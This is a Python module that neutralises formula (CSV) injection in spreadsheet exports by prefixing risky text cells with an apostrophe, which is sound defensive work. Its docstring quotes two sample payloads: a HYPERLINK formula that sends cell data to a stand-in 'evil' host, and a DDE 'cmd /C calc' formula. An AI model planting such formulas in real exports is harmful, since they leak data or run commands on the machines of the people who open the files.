"""Spreadsheet exports that a spreadsheet cannot run: formula ("CSV") injection.

Excel, LibreOffice and Google Sheets read a text cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula (a tab or carriage return in front of one is skipped, so those count too). A donor named
``=HYPERLINK("http://evil/?x="&A1,"Click")`` or an application ref ``+cmd|' /C calc'!A0`` would run on
the staff member's machine when the export is opened. Following OWASP's advice, every CSV and XLSX
export writes such a text cell with a leading apostrophe: :func:`safe_cell` for one value,
:func:`safe_row` for a row, :func:`writer` for a :mod:`csv` writer that does it to every row.

Only text is touched: numbers (a negative balance, an amount) stay numbers, so a sum over the column
still works. In XLSX the apostrophe is part of the cell's text rather than Excel's hidden "quote
prefix" style: the same value as in the CSV, and the cell stays inert if it is copied or saved back
to CSV (openpyxl stores a string that does not begin with ``=`` as a plain string cell, never a
formula).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with an apostrophe in front if it is text a spreadsheet would read as a formula;
    anything else (numbers, dates, ``None``, harmless text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """A :func:`csv.writer` whose every text cell goes through :func:`safe_cell`."""

    def __init__(self, out, **kwargs) -> None:
        self._writer = csv.writer(out, **kwargs)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs) -> SafeWriter:
    """Like :func:`csv.writer` (same arguments), for an export a person will open in a spreadsheet."""
    return SafeWriter(out, **kwargs)
